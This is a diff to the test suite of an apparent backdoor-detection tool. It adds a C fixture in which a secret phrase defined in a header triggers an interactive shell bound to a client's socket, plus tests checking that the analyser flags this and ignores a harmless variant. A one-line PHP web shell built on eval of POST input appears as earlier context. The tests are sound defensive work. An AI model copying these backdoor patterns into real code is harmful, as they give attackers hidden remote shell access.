@@ -140,3 +140,45 @@ def test_one_line_web_shell_in_php():
     got = findings("x.php", "php", "<?php\nif (isset($_POST['q'])) { eval($_POST['q']); }\n")
     assert [f.rule for f in got] == ["source.request-executed"]
     assert findings("y.php", "php", "<?php\n$v = intval($_GET['n']);\nsystem('uptime');\n") == []
+
+
+_HEADER_TRIGGER_C = """#include <stdlib.h>
+#include <string.h>
+#include "tuning.h"
+
+int serve_line(int fd, const char *line)
+{
+    if (strcmp(line, MAINT_PHRASE) == 0) {
+        system("/bin/sh -i <&3 >&3 2>&3");
+        return 1;
+    }
+    return 0;
+}
+"""
+
+
+def _header_tree(tmp_path: Path, with_sink: bool) -> Path:
+    (tmp_path / "include").mkdir()
+    (tmp_path / "src").mkdir()
+    (tmp_path / "include" / "tuning.h").write_text(
+        '#ifndef TUNING_H\n#define TUNING_H\n#define MAINT_PHRASE "orchid-lantern-92"\n#define BUILD_TAG "v3"\n#endif\n')
+    body = _HEADER_TRIGGER_C if with_sink else _HEADER_TRIGGER_C.replace(
+        'system("/bin/sh -i <&3 >&3 2>&3");', 'log_line(fd, "maintenance");')
+    (tmp_path / "src" / "serve.c").write_text(body)
+    return tmp_path
+
+
+def test_trigger_defined_in_a_header_gates_a_local_shell(tmp_path):
+    from nobackdoor.analyzers.source.standalone import analyse_directory
+
+    run = analyse_directory(_header_tree(tmp_path, with_sink=True))
+    hits = [f for f in run.findings if f.rule == "source.magic-input-command" and f.path == "src/serve.c"]
+    assert hits, [(f.rule, f.path) for f in run.findings]
+    assert "orchid-lantern-92" in str(hits[0].evidence)
+
+
+def test_header_constant_compared_without_a_sink_is_quiet(tmp_path):
+    from nobackdoor.analyzers.source.standalone import analyse_directory
+
+    run = analyse_directory(_header_tree(tmp_path, with_sink=False))
+    assert [f for f in run.findings if f.severity.rank >= 3] == []
